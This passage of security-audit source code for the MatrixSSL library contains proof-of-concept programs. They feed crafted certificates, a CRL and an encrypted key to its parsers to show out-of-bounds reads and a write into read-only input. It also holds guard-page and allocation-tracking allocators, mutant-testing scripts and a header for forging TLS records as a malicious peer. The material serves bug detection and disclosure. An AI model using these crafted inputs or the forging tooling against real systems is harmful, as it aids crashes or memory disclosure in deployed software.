
static int run(int variant)
{
    pid_t pid = fork();
    int st = 0;

    if (pid == 0)
    {
        unsigned char mem[sizeof crl_upto_thisUpdate + 4 + 300];
        size_t n = sizeof crl_upto_thisUpdate, total = n;
        psX509Crl_t *crl = NULL;
        unsigned char *in;
        int32 rc;

        memcpy(mem, crl_upto_thisUpdate, n);
        if (variant == 1)
        {
            /* bytes that merely FOLLOW the input in memory */
            mem[n] = 0x17; mem[n + 1] = 0x82; mem[n + 2] = 0xff; mem[n + 3] = 0xff;
            memset(mem + n + 4, 'S', 300);
            total = sizeof mem;
        }
        install_fault_handler(variant == 0 ?
            "run A: psX509ParseCRL(48-byte CRL)" :
            "run B: psX509ParseCRL(48-byte CRL, 304 unrelated bytes follow in memory)");
        in = guard_buf(mem, total);
        g_guard_end = in + n;               /* offsets are relative to the DECLARED input end */
        rc = psX509ParseCRL(NULL, &crl, in, (int32) n);
        printf("run %c: psX509ParseCRL returned %d, no fault\n", 'A' + variant, (int) rc);
        if (rc >= 0) psX509FreeCRL(crl);
        _exit(0);
    }
    waitpid(pid, &st, 0);
    return WIFEXITED(st) ? WEXITSTATUS(st) : 3;
}

int main(void)
{
    int a, b;

    if (matrixSslOpen() < 0) { printf("matrixSslOpen failed\n"); return 2; }
    setvbuf(stdout, NULL, _IONBF, 0);
    a = run(0);
    b = run(1);
    matrixSslClose();
    if (a || b)
    {
        printf("VIOLATION: psX509ParseCRL read outside its %u-byte input (run A exit %d, run B exit %d)\n",
            (unsigned) sizeof crl_upto_thisUpdate, a, b);
        return 1;
    }
    printf("OK: no violation observed\n");
    return 0;
}
