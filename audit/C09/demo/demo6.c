/* demo6 (extra, not one of the four listed findings): psPkcs8ParsePrivBin
 * (crypto/pubkey/pubkey_parse_file.c) decrypts an encrypted PKCS#8 blob IN
 * PLACE in the caller's input, which the API takes as `const unsigned char *`:
 *
 *     psDes3Decrypt(&ctx.des3, p, (unsigned char *) p, len);
 *
 * psParseUnknownPrivKeyMem(pool, const keyBuf, len, password, key) reaches it
 * with the caller's buffer.  (1) the "const" input is overwritten (a second
 * parse of the same bytes fails); (2) a key that lives in read-only memory,
 * e.g. a `static const unsigned char[]` like the arrays in the testkeys headers,
 * makes the library write to .rodata and the process dies with SIGSEGV.
 *
 * The blob is `openssl pkcs8 -topk8 -v2 des3 -v2prf hmacWithSHA1 -iter 256
 * -saltlen 8 -passout pass:c09pass` of a P-256 key.
 */
#include "common.h"
#include "matrixssl/matrixsslApi.h"

static const unsigned char p8_const[] = {
    0x30, 0x81, 0xd5, 0x30, 0x40, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7,
    0x0d, 0x01, 0x05, 0x0d, 0x30, 0x33, 0x30, 0x1b, 0x06, 0x09, 0x2a, 0x86,
    0x48, 0x86, 0xf7, 0x0d, 0x01, 0x05, 0x0c, 0x30, 0x0e, 0x04, 0x08, 0x13,
    0xd6, 0xc3, 0xfa, 0x39, 0x4a, 0xe0, 0x34, 0x02, 0x02, 0x01, 0x00, 0x30,
    0x14, 0x06, 0x08, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x03, 0x07, 0x04,
    0x08, 0xbb, 0x31, 0x17, 0x32, 0x97, 0x6b, 0x66, 0x07, 0x04, 0x81, 0x90,
    0x7b, 0xd5, 0x06, 0xb1, 0xe0, 0xa6, 0xbd, 0x35, 0xd2, 0x9e, 0xfb, 0xbf,
    0xf9, 0xe9, 0x4d, 0x40, 0xb8, 0xcd, 0x35, 0x43, 0x60, 0x21, 0x7b, 0x85,
    0x46, 0x5d, 0x13, 0xdf, 0x08, 0xbc, 0xbc, 0x3f, 0x5d, 0x73, 0xb8, 0x2f,
    0xc6, 0x63, 0x16, 0x6e, 0xdb, 0x09, 0xf3, 0xb1, 0x39, 0x3b, 0xdb, 0xf8,
    0xa3, 0x23, 0x57, 0x4f, 0x75, 0xe4, 0x97, 0xea, 0x3a, 0xec, 0x4e, 0x9d,
    0x8e, 0xd6, 0x05, 0xc2, 0x1a, 0x9e, 0xb9, 0xad, 0x76, 0x01, 0x42, 0x65,
    0x0b, 0xc6, 0xed, 0xbf, 0xee, 0xed, 0x7e, 0x80, 0x40, 0x1b, 0x02, 0x4a,
    0x5d, 0xd7, 0xd5, 0x46, 0xd3, 0x29, 0x37, 0xeb, 0xd3, 0x6a, 0xb3, 0x29,
    0x6c, 0x53, 0xb4, 0x73, 0x20, 0x66, 0xd4, 0xce, 0x97, 0xad, 0x8a, 0x90,
    0xfc, 0x4c, 0xbb, 0x97, 0x77, 0x02, 0x2d, 0xd1, 0x13, 0x42, 0xcb, 0x83,
    0xef, 0xc5, 0x01, 0xae, 0xd0, 0xcc, 0x89, 0x26, 0x0b, 0x16, 0xa7, 0x41,
    0x8b, 0xeb, 0xab, 0x56, 0xe2, 0x6c, 0x83, 0xa0, 0xec, 0x50, 0x2d, 0x76
};

static void on_segv(int sig, siginfo_t *si, void *uc)
{
    static const char m[] =
        "VIOLATION: psParseUnknownPrivKeyMem wrote into its const (read-only) input buffer: SIGSEGV\n";
    (void) sig; (void) uc;
    if ((const unsigned char *) si->si_addr >= p8_const &&
        (const unsigned char *) si->si_addr < p8_const + sizeof p8_const)
    {
        if (write(1, m, sizeof m - 1) < 0) { }
    }
    else
    {
        static const char m2[] = "VIOLATION: SIGSEGV inside psParseUnknownPrivKeyMem\n";
        if (write(1, m2, sizeof m2 - 1) < 0) { }
    }
    _exit(1);
}

int main(void)
{
    unsigned char copy[sizeof p8_const];
    psPubKey_t key;
    struct sigaction sa;
    int32_t rc, bad = 0;

    setvbuf(stdout, NULL, _IONBF, 0);
    if (matrixSslOpen() < 0) { printf("matrixSslOpen failed\n"); return 2; }

    /* (1) writable copy: the parse succeeds, and the caller's bytes have changed */
    memcpy(copy, p8_const, sizeof copy);
    memset(&key, 0, sizeof key);
    rc = psParseUnknownPrivKeyMem(NULL, copy, (int32) sizeof copy, "c09pass", &key);
    printf("first parse of a writable copy: rc %d (> 0: key parsed)\n", (int) rc);
    if (rc >= 0) psClearPubKey(&key);
    if (memcmp(copy, p8_const, sizeof copy) != 0)
    {
        size_t i, n = 0;
        for (i = 0; i < sizeof copy; i++) n += copy[i] != p8_const[i];
        printf("VIOLATION: the input passed as `const unsigned char *keyBuf` was modified (%u of %u bytes differ)\n",
            (unsigned) n, (unsigned) sizeof copy);
        bad = 1;
        memset(&key, 0, sizeof key);
        rc = psParseUnknownPrivKeyMem(NULL, copy, (int32) sizeof copy, "c09pass", &key);
        printf("second parse of the same buffer: rc %d\n", (int) rc);
        if (rc >= 0) psClearPubKey(&key);
    }

    /* (2) the same bytes in read-only memory */
    memset(&sa, 0, sizeof sa);
    sa.sa_sigaction = on_segv;
    sa.sa_flags = SA_SIGINFO;
    sigaction(SIGSEGV, &sa, NULL);
    memset(&key, 0, sizeof key);
    printf("parsing the static const array (in .rodata)\n");
    rc = psParseUnknownPrivKeyMem(NULL, p8_const, (int32) sizeof p8_const, "c09pass", &key);
    printf("parse of the const array: rc %d\n", (int) rc);
    if (rc >= 0) psClearPubKey(&key);
    matrixSslClose();
    if (!bad) printf("OK: no violation observed\n");
    return bad;
}
