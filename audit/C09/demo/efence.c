/* Guard-page allocator, linked with -Wl,--wrap=malloc,--wrap=calloc,--wrap=realloc,--wrap=free.
 * While efence_on is set, every block the library allocates ends (up to 16-byte
 * alignment) at a page boundary that is followed by an inaccessible page, so a
 * read or write past the end of any heap block faults at once.  The SIGSEGV
 * handler reports which block was overrun. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <unistd.h>
#include <sys/mman.h>

void *__real_malloc(size_t);
void *__real_calloc(size_t, size_t);
void *__real_realloc(void *, size_t);
void __real_free(void *);

int efence_on;
const char *efence_context = "library";

#define MAXB 200000
static struct blk { unsigned char *p, *base; size_t n, maplen; } blks[MAXB];
static int nblk;

static void *ef_alloc(size_t n)
{
    size_t pg = 4096, datalen, maplen;
    unsigned char *base, *p;
    if (nblk >= MAXB) return NULL;
    datalen = ((n ? n : 1) + pg - 1) / pg * pg;
    maplen = datalen + pg;
    base = mmap(NULL, maplen, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (base == MAP_FAILED) return NULL;
    mprotect(base + datalen, pg, PROT_NONE);
    p = base + datalen - n;
    p = (unsigned char *) ((unsigned long) p & ~15UL);
    blks[nblk].p = p; blks[nblk].base = base; blks[nblk].n = n; blks[nblk].maplen = maplen;
    nblk++;
    return p;
}

static int ef_find(void *p)
{
    int i;
    for (i = nblk - 1; i >= 0; i--) if (blks[i].p == (unsigned char *) p) return i;
    return -1;
}

void *__wrap_malloc(size_t n) { return efence_on ? ef_alloc(n) : __real_malloc(n); }

void *__wrap_calloc(size_t a, size_t b)
{
    if (!efence_on) return __real_calloc(a, b);
    return ef_alloc(a * b);     /* fresh anonymous pages are zero */
}

void __wrap_free(void *p)
{
    int i;
    if (p == NULL) return;
    i = ef_find(p);
    if (i < 0) { __real_free(p); return; }
    munmap(blks[i].base, blks[i].maplen);
    blks[i] = blks[--nblk];
}

void *__wrap_realloc(void *o, size_t n)
{
    int i;
    void *q;
    if (o == NULL) return __wrap_malloc(n);
    i = ef_find(o);
    if (i < 0) return __real_realloc(o, n);
    q = ef_alloc(n);
    if (q == NULL) return NULL;
    memcpy(q, o, blks[i].n < n ? blks[i].n : n);
    __wrap_free(o);
    return q;
}

static void put(const char *s) { if (write(1, s, strlen(s)) < 0) { } }
static void putnum(unsigned long u)
{
    char t[32]; int n = 0;
    do { t[n++] = (char) ('0' + u % 10); u /= 10; } while (u);
    while (n) { if (write(1, &t[--n], 1) < 0) { } }
}

static void on_segv(int sig, siginfo_t *si, void *uc)
{
    unsigned char *a = si->si_addr;
    int i;
    (void) sig; (void) uc;
    put("VIOLATION: ");
    put(efence_context);
    for (i = 0; i < nblk; i++)
    {
        unsigned char *guard = blks[i].base + blks[i].maplen - 4096;
        if (a >= guard && a < guard + 4096)
        {
            put(": SIGSEGV at byte +");
            putnum((unsigned long) (a - (blks[i].p + blks[i].n)));
            put(" past the end of a ");
            putnum((unsigned long) blks[i].n);
            put("-byte heap block\n");
            _exit(1);
        }
    }
    put(": SIGSEGV outside any tracked heap block\n");
    _exit(1);
}

void efence_install(void)
{
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_sigaction = on_segv;
    sa.sa_flags = SA_SIGINFO;
    sigaction(SIGSEGV, &sa, NULL);
    sigaction(SIGBUS, &sa, NULL);
}
