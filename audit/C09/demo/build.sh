#!/bin/sh
# Builds all C09 audit demos against the UNMODIFIED static libraries of the
# worktree (run `make -j4` at the worktree top level first).
# Same -I / -D flags as matrixssl/test (see `make V=1`).
set -e
cd "$(dirname "$0")"
TOP=$(cd ../.. && pwd)
CC=${CC:-cc}
CFLAGS="-O1 -g -Wall -Wno-unused-function \
  -I$TOP -I$TOP/core/config -I$TOP/core/include -I$TOP/core/osdep/include -I$TOP/core/include/sfzcl \
  -DUSE_CL_PKCS -DUSE_CL_CERTLIB"
LIBS="$TOP/matrixssl/libssl_s.a $TOP/crypto/libcrypt_s.a $TOP/core/libcore_s.a -lpthread"
WRAP="-Wl,--wrap=malloc,--wrap=calloc,--wrap=realloc,--wrap=free"

for l in $TOP/matrixssl/libssl_s.a $TOP/crypto/libcrypt_s.a $TOP/core/libcore_s.a; do
    [ -f "$l" ] || { echo "missing $l - run make at $TOP first" >&2; exit 2; }
done

for n in 1 2 3 5 6 7; do
    [ -f demo$n.c ] || continue
    $CC $CFLAGS demo$n.c $LIBS -o demo$n
done
# demos that need the allocation tracker
for n in 4; do
    [ -f demo$n.c ] || continue
    $CC $CFLAGS $WRAP demo$n.c memtrack.c $LIBS -o demo$n
done
# demo that needs the guard-page allocator
$CC $CFLAGS $WRAP demo1_tls.c efence.c $LIBS -o demo1_tls
echo "built: $(ls demo? demo1_tls 2>/dev/null | tr '\n' ' ')"
