/* demo7 (extra E3): two one-byte reads past the end of an exactly sized
 * certificate buffer in crypto/keyformat/x509.c.
 *
 * (a) parse_single_cert: after subjectPublicKeyInfo the code tests
 *         if (*p != (ASN_SEQUENCE | ASN_CONSTRUCTED))
 *     to see whether the optional uniqueIDs/extensions follow, without
 *     checking p < end.  A Certificate that ends with its
 *     subjectPublicKeyInfo makes it read the byte after the input.
 * (b) getImplicitBitString: after `p++` over the tag it calls
 *         getAsnLength(&p, len, bitLen)
 *     with the length that still includes the tag octet (should be len - 1),
 *     so an issuerUniqueID may claim one byte more than the input holds and
 *     Memcpy copies that byte into cert->uniqueIssuerId.
 */
#include "common.h"
#include "matrixssl/matrixsslApi.h"

static const unsigned char alg_ecdsa_sha256[] = {
    0x30, 0x0a, 0x06, 0x08, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x04, 0x03, 0x02
};
static const unsigned char name_cn_a[] = { /* CN=a */
    0x30, 0x0c, 0x31, 0x0a, 0x30, 0x08, 0x06, 0x03, 0x55, 0x04, 0x03, 0x0c, 0x01, 'a'
};
static const unsigned char validity[] = {
    0x30, 0x1e,
    0x17, 0x0d, '1', '7', '0', '3', '1', '6', '1', '7', '0', '7', '3', '4', 'Z',
    0x17, 0x0d, '3', '7', '0', '3', '1', '6', '1', '7', '0', '7', '3', '4', 'Z'
};
/* SubjectPublicKeyInfo of testkeys/EC/256_EC.pem (a valid P-256 point) */
static const unsigned char spki_p256[] = {
    0x30, 0x59, 0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01,
    0x06, 0x08, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x03, 0x01, 0x07, 0x03, 0x42, 0x00,
    0x04, 0x5f, 0xad, 0x62, 0x02, 0x42, 0x48, 0xba, 0xfb, 0xe2, 0x88, 0xd8, 0x7f,
    0xb9, 0x72, 0xcb, 0x28, 0xae, 0xc3, 0x8a, 0x1e, 0xc3, 0x0e, 0x9c, 0x7d, 0x7a,
    0xa4, 0xb5, 0x7f, 0xda, 0xbd, 0x46, 0x5a, 0xb9, 0x95, 0x39, 0xe0, 0x44, 0x51,
    0x71, 0xba, 0xe3, 0xb3, 0x40, 0xf2, 0x54, 0xfd, 0x23, 0x84, 0xb2, 0xea, 0x2a,
    0x84, 0xa3, 0x4f, 0xd7, 0xb0, 0x08, 0xba, 0x6e, 0x80, 0xc3, 0xeb, 0xdf, 0x2f
};

static int parse(const unsigned char *in, size_t n)
{
    psX509Cert_t *cert = NULL;
    int32 rc = psX509ParseCert(NULL, in, (uint32) n, &cert, 0);
    psX509FreeCert(cert);
    return (int) rc;
}

static void build(der_t *d, int with_uid)
{
    static const unsigned char ver[] = { 0xa0, 0x03, 0x02, 0x01, 0x02 };
    static const unsigned char serial[] = { 0x02, 0x01, 0x01 };
    /* issuerUniqueID [1]: claims 5 content octets, only 4 are present */
    static const unsigned char uid[] = { 0x81, 0x05, 0x00, 0x01, 0x02, 0x03 };
    size_t cert0 = d->n, tbs0 = d->n;
    der_raw(d, ver, sizeof ver);
    der_raw(d, serial, sizeof serial);
    der_raw(d, alg_ecdsa_sha256, sizeof alg_ecdsa_sha256);
    der_raw(d, name_cn_a, sizeof name_cn_a);
    der_raw(d, validity, sizeof validity);
    der_raw(d, name_cn_a, sizeof name_cn_a);
    der_raw(d, spki_p256, sizeof spki_p256);
    if (with_uid) der_raw(d, uid, sizeof uid);
    der_wrap(d, tbs0, 0x30);
    der_wrap(d, cert0, 0x30);   /* the Certificate ends with the TBSCertificate */
}

int main(void)
{
    static der_t d1, d2;
    int a, b;

    build(&d1, 0);
    build(&d2, 1);
    setvbuf(stdout, NULL, _IONBF, 0);
    if (matrixSslOpen() < 0) { printf("matrixSslOpen failed\n"); return 2; }
    a = run_guarded("(a) psX509ParseCert(certificate ending after subjectPublicKeyInfo)", d1.b, d1.n, 0, parse);
    b = run_guarded("(b) psX509ParseCert(certificate ending in a short issuerUniqueID)", d2.b, d2.n, 0, parse);
    matrixSslClose();
    if (a || b)
    {
        printf("VIOLATION: psX509ParseCert read outside its input ((a) exit %d, (b) exit %d)\n", a, b);
        return 1;
    }
    printf("OK: no violation observed\n");
    return 0;
}
