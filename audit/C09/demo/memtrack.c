/* Allocation tracker, linked with -Wl,--wrap=malloc,--wrap=calloc,--wrap=realloc,--wrap=free.
 * Every malloc/calloc/realloc/free reference inside the MatrixSSL static
 * libraries and the demo is routed here.  A free() of an address that lies
 * strictly inside a live block (i.e. not the address malloc returned) is
 * reported; it would corrupt the heap or abort in the real allocator. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

void *__real_malloc(size_t);
void *__real_calloc(size_t, size_t);
void *__real_realloc(void *, size_t);
void __real_free(void *);

#define MAXLIVE 65536
static struct { unsigned char *p; size_t n; } live[MAXLIVE];
static int nlive;
int memtrack_enabled;

static void add(void *p, size_t n)
{
    if (!memtrack_enabled || p == NULL) return;
    if (nlive < MAXLIVE) { live[nlive].p = p; live[nlive].n = n ? n : 1; nlive++; }
}

static int del(void *p)
{
    int i;
    for (i = nlive - 1; i >= 0; i--)
    {
        if (live[i].p == (unsigned char *) p) { live[i] = live[--nlive]; return 1; }
    }
    return 0;
}

void *__wrap_malloc(size_t n) { void *p = __real_malloc(n); add(p, n); return p; }
void *__wrap_calloc(size_t a, size_t b) { void *p = __real_calloc(a, b); add(p, a * b); return p; }
void *__wrap_realloc(void *o, size_t n)
{
    void *p;
    if (o) del(o);
    p = __real_realloc(o, n);
    add(p, n);
    return p;
}

void __wrap_free(void *p)
{
    int i;
    if (p == NULL) return;
    if (memtrack_enabled && !del(p))
    {
        for (i = 0; i < nlive; i++)
        {
            if ((unsigned char *) p > live[i].p && (unsigned char *) p < live[i].p + live[i].n)
            {
                printf("VIOLATION: free(%p) called on an address %ld bytes INSIDE a live "
                       "%lu-byte heap block that starts at %p (invalid free)\n",
                       p, (long) ((unsigned char *) p - live[i].p),
                       (unsigned long) live[i].n, (void *) live[i].p);
                fflush(stdout);
                _exit(1);
            }
        }
    }
    __real_free(p);
}

int memtrack_live(void) { return nlive; }
