/* Helpers shared by the C09 audit demos.
 *
 *  - guard_buf(): returns a copy of the input whose LAST byte is the last byte
 *    of a mapped page; the following pages are PROT_NONE.  Any read past the
 *    declared input length therefore faults immediately.
 *  - a SIGSEGV/SIGBUS handler that reports the faulting address relative to
 *    the end of the guarded input, prints "VIOLATION:" and exits 1.
 *  - an allocation tracker (linked in through -Wl,--wrap=malloc,...) that
 *    reports a free() of a pointer that lies strictly inside a live block.
 */
#ifndef C09_DEMO_COMMON_H
#define C09_DEMO_COMMON_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <signal.h>
#include <unistd.h>
#include <sys/mman.h>

static unsigned char *g_guard_end;      /* first byte after the guarded input */
static const char *g_what = "parser";

static void fmt_long(char *out, long v)
{
    char tmp[32]; int n = 0, i = 0; unsigned long u;
    if (v < 0) { out[i++] = '-'; u = (unsigned long) (-v); } else { u = (unsigned long) v; }
    do { tmp[n++] = (char) ('0' + u % 10); u /= 10; } while (u);
    while (n) out[i++] = tmp[--n];
    out[i] = 0;
}

static void on_fault(int sig, siginfo_t *si, void *uc)
{
    char msg[256], num[32];
    long off = (long) ((unsigned char *) si->si_addr - g_guard_end);
    (void) uc;
    strcpy(msg, "VIOLATION: ");
    strcat(msg, g_what);
    strcat(msg, sig == SIGSEGV ? " faulted (SIGSEGV) accessing byte +" : " faulted accessing byte +");
    fmt_long(num, off);
    strcat(msg, num);
    strcat(msg, " past the end of its input buffer\n");
    if (write(1, msg, strlen(msg)) < 0) { }
    _exit(1);
}

static void install_fault_handler(const char *what)
{
    struct sigaction sa;
    g_what = what;
    memset(&sa, 0, sizeof sa);
    sa.sa_sigaction = on_fault;
    sa.sa_flags = SA_SIGINFO;
    sigaction(SIGSEGV, &sa, NULL);
    sigaction(SIGBUS, &sa, NULL);
}

#define GUARD_PAGES 40  /* 160 KB of inaccessible memory after the input */

static unsigned char *guard_buf(const void *data, size_t n)
{
    size_t pg = (size_t) sysconf(_SC_PAGESIZE);
    size_t npg = (n + pg - 1) / pg + 1;
    unsigned char *base = mmap(NULL, (npg + GUARD_PAGES) * pg, PROT_READ | PROT_WRITE,
                               MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    unsigned char *p;
    if (base == MAP_FAILED) { perror("mmap"); exit(2); }
    if (mprotect(base + npg * pg, GUARD_PAGES * pg, PROT_NONE) != 0) { perror("mprotect"); exit(2); }
    p = base + npg * pg - n;
    memcpy(p, data, n);
    g_guard_end = p + n;
    return p;
}

/* ---- tiny DER writer -------------------------------------------------- */
typedef struct { unsigned char b[70000]; size_t n; } der_t;

static void der_raw(der_t *d, const void *p, size_t n) { memcpy(d->b + d->n, p, n); d->n += n; }

/* wrap the bytes appended since 'from' into TLV with the given tag */
static void der_wrap(der_t *d, size_t from, unsigned char tag)
{
    size_t len = d->n - from, hl;
    unsigned char h[6];
    h[0] = tag;
    if (len < 128) { h[1] = (unsigned char) len; hl = 2; }
    else if (len < 256) { h[1] = 0x81; h[2] = (unsigned char) len; hl = 3; }
    else { h[1] = 0x82; h[2] = (unsigned char) (len >> 8); h[3] = (unsigned char) len; hl = 4; }
    memmove(d->b + from + hl, d->b + from, len);
    memcpy(d->b + from, h, hl);
    d->n += hl;
}


/* ---- run a parser call in a child, with 'slack' unrelated bytes mapped after
   the declared input (fault offsets are relative to the declared end) ------ */
#include <sys/wait.h>
typedef int (*parse_fn)(const unsigned char *in, size_t n);

static int run_guarded(const char *what, const void *data, size_t n, size_t slack, parse_fn fn)
{
    pid_t pid;
    int st = 0;
    fflush(stdout);
    pid = fork();
    if (pid == 0)
    {
        unsigned char *mem = malloc(n + slack), *in;
        int rc;
        memcpy(mem, data, n);
        memset(mem + n, 'S', slack);         /* memory that merely follows the input */
        install_fault_handler(what);
        in = guard_buf(mem, n + slack);
        g_guard_end = in + n;
        rc = fn(in, n);
        printf("%s: returned %d, no fault\n", what, rc);
        fflush(stdout);
        _exit(0);
    }
    waitpid(pid, &st, 0);
    return WIFEXITED(st) ? WEXITSTATUS(st) : 3;
}

#endif
