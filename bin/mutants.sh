#!/bin/bash
# mutants.sh [pattern]: for every mutants/<Cxx>-*.patch (and seeded/<id>/patch.diff) apply it to a scratch copy,
# run the property's quick check against it and report whether it was detected.
# A file mutants/<name>.tier names another tier (thorough) for a mutant the quick alphabet cannot reach.
# Patches whose name contains "revert-fix" are applied in reverse (they re-introduce a repaired defect).
cd "$(dirname "$0")/.."
pat=${1:-}
for f in mutants/*${pat}*.patch; do
    [ -e "$f" ] || continue
    prop=$(basename "$f" | cut -d- -f1)
    rev=0; case "$f" in *revert-fix*) rev=1;; esac
    check_props="$prop"
    [ -f "${f%.patch}.props" ] && check_props=$(cat "${f%.patch}.props")
    for p in $check_props; do
        tier=quick; [ -f "${f%.patch}.tier" ] && tier=$(cat "${f%.patch}.tier")
        out=$(MUTANT_REVERSE=$rev bin/with-mutant "$f" bin/check "$p" --tier $tier 2>/dev/null); rc=$?
        nv=$(echo "$out" | grep -c '^VIOLATION')
        [ $rc = 3 ] && { echo "$(basename "$f") :: $p -> PATCH-DOES-NOT-APPLY"; continue; }
        echo "$(basename "$f") :: $p ($tier) -> exit=$rc violations=$nv"
    done
done
