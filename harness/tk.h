#ifndef MXV_TK_H
#define MXV_TK_H
#include "mxv.h"
typedef struct { uint16_t suite; int hashlen, keylen; unsigned char secret[64], key[32], iv[12]; uint64_t seq; } tk13_keys_t;
typedef struct { int type; const unsigned char *p; int len; } tk_msg_t;
int  tk_hkdf_expand_label(int hashlen, const unsigned char *secret, const char *label, const unsigned char *ctx, int ctxlen, unsigned char *out, int outlen);
int  tk_keylog_find(const char *label, unsigned char *out);
int  tk13_keys_from_secret(tk13_keys_t *k, uint16_t suite, const unsigned char *secret, int hashlen);
int  tk13_open(tk13_keys_t *k, const unsigned char *rec, int reclen, unsigned char *pt, int *itype);
int  tk13_seal(tk13_keys_t *k, int itype, const unsigned char *pt, int ptlen, unsigned char *rec);
int  tk13_seal_raw(tk13_keys_t *k, const unsigned char *inner, int innerlen, unsigned char *rec); /* TLSInnerPlaintext given as is (may be empty) */
int  tk13_finished(const tk13_keys_t *k, const unsigned char *thash, unsigned char *vd);
void tk_transcript_hash(int hashlen, const buf_t *msgs, unsigned char *out);
int  tk_split_msgs(const unsigned char *p, int len, tk_msg_t *out, int max);
/* TLS 1.2 (SHA-256 PRF, AES-GCM): a malicious peer that ran the key exchange itself knows the master secret and its own write keys */
void tk12_prf_sha256(const unsigned char *secret, int slen, const char *label, const unsigned char *seed, int seedlen, unsigned char *out, int outlen);
void tk12_finished(const unsigned char ms[48], int is_client, const buf_t *msgs, unsigned char vd[12]);
int  tk12_gcm_seal(const unsigned char *key, int keylen, const unsigned char salt[4], uint64_t seq, int type, const unsigned char *pt, int ptlen, unsigned char *rec);
int  tk12_gcm_seal_ex(const unsigned char *key, int keylen, const unsigned char salt[4], const unsigned char seq8[8], const unsigned char *hdr, int hdrlen, const unsigned char *pt, int ptlen, unsigned char *rec);
int  tk12_cbc_seal_ex(const unsigned char *key, int keylen, const unsigned char *mackey, int maclen, const unsigned char seq8[8], const unsigned char *hdr, int hdrlen, const unsigned char *pt, int ptlen, int padmode, unsigned char *rec);
int  tk12_cbc_raw_seal(const unsigned char *key, int keylen, const unsigned char *hdr, int hdrlen, const unsigned char *pt, int ptlen, unsigned char *rec);
#endif
