/* c11_misc.h - DH public values, positive direction (sign/encrypt/ECDH/X25519), key blob truncation */
#ifndef C11_MISC_H
#define C11_MISC_H
#include "c11_rsa.h"
#include "c11_ecc.h"
#include "testkeys/DH/1024_DH_PARAMS.h"
#include "testkeys/DH/2048_DH_PARAMS.h"
#include "testkeys/DH/ffdhe2048_DH_PARAMS.h"

/* --------------------------------------------------------------------- DH */
enum { Y_0 = 0, Y_1, Y_2, Y_PM2, Y_PM1, Y_P, Y_PP1, Y_VALID, Y_VALID_LEADZERO, Y_2PM1, Y_EMPTY, Y_PM1_LEADZERO, Y_NDH };
static const char *dh_named[Y_NDH] = { "y-0", "y-1", "y-2", "y-p-minus-2", "y-p-minus-1", "y-p", "y-p-plus-1", "y-valid", "y-valid-leading-zero",
                                       "y-2p-minus-1", "y-empty", "y-p-minus-1-leading-zero" };

static int dh_params(int id, const unsigned char **der, int *len)
{
    switch (id)
    {
    case 1024: *der = (const unsigned char *) DHPARAM1024; *len = DHPARAM1024_SIZE; return 0;
    case 2048: *der = (const unsigned char *) DHPARAM2048; *len = DHPARAM2048_SIZE; return 0;
    case 2049: *der = (const unsigned char *) ffdhe2048_DH_PARAMS; *len = ffdhe2048_DH_PARAMS_SIZE; return 0;
    }
    return -1;
}

static int run_dh(const case_t *c, mx_result_t *r)
{
#ifndef USE_DH
    return NA;
#else
    const unsigned char *der, *pp;
    int derlen, ylen, plen, must_accept, must_reject, acc[2], rc[2], j, reflen = 0;
    DH *dh;
    const BIGNUM *p = NULL, *g = NULL;
    BIGNUM *y = BN_new(), *x = BN_new(), *z = BN_new(), *t = BN_new();
    BN_CTX *bn = BN_CTX_new();
    unsigned char yb[600], xb[32], pb[520], ref[520], out[2][600];
    psSize_t outlen[2];
    psDhParams_t params;
    psDhKey_t priv, pub;
    unsigned char *hy;
    char md[96], key[160];

    if (c->v != V_NAMED || c->i < 0 || c->i >= Y_NDH || dh_params(c->k, &der, &derlen) < 0)
    {
        goto na;
    }
    pp = der;
    dh = d2i_DHparams(NULL, &pp, derlen);
    if (!dh)
    {
        ERR_clear_error();
        internal_err(r, "dh-params", "OpenSSL cannot parse DH parameters %d", c->k);
        goto out;
    }
    DH_get0_pqg(dh, &p, NULL, &g);
    plen = BN_num_bytes(p);
    fill_bytes(xb, sizeof(xb), "dh-priv", c->k);
    xb[0] |= 0x80;
    BN_bin2bn(xb, sizeof(xb), x);
    ylen = plen;
    switch (c->i)
    {
    case Y_0: BN_zero(y); break;
    case Y_1: BN_one(y); break;
    case Y_2: BN_set_word(y, 2); break;
    case Y_PM2: BN_copy(y, p); BN_sub_word(y, 2); break;
    case Y_PM1: case Y_PM1_LEADZERO: BN_copy(y, p); BN_sub_word(y, 1); if (c->i == Y_PM1_LEADZERO) ylen = plen + 3; break;
    case Y_P: BN_copy(y, p); break;
    case Y_PP1: BN_copy(y, p); BN_add_word(y, 1); break;
    case Y_VALID: case Y_VALID_LEADZERO:
        fill_bytes(yb, 32, "dh-peer-priv", c->k);
        BN_bin2bn(yb, 32, t);
        BN_mod_exp(y, g, t, p, bn);
        if (c->i == Y_VALID_LEADZERO) ylen = plen + 1;
        break;
    case Y_2PM1: BN_lshift1(y, p); BN_sub_word(y, 1); ylen = BN_num_bytes(y); break;
    case Y_EMPTY: BN_zero(y); ylen = 0; break;
    }
    BN_bn2binpad(y, yb, ylen);
    BN_bn2binpad(p, pb, plen);
    /* range rule of the property: 2 <= y <= p-2 */
    BN_copy(t, p); BN_sub_word(t, 2);
    must_accept = BN_cmp(y, t) <= 0 && BN_num_bits(y) >= 2;
    must_reject = !must_accept;
    if (must_accept)
    {
        BN_mod_exp(z, y, x, p, bn);
        reflen = BN_num_bytes(z);
        BN_bn2bin(z, ref);
    }
    case_mdesc(c, md, sizeof(md));
    snprintf(r->desc, sizeof(r->desc), "%s (DH group %s: peer public value %s, %d bytes)", md, c->k == 2049 ? "ffdhe2048" : c->k == 1024 ? "testkeys 1024" : "testkeys 2048",
        dh_named[c->i], ylen);

    memset(&params, 0, sizeof(params));
    memset(&priv, 0, sizeof(priv));
    memset(&pub, 0, sizeof(pub));
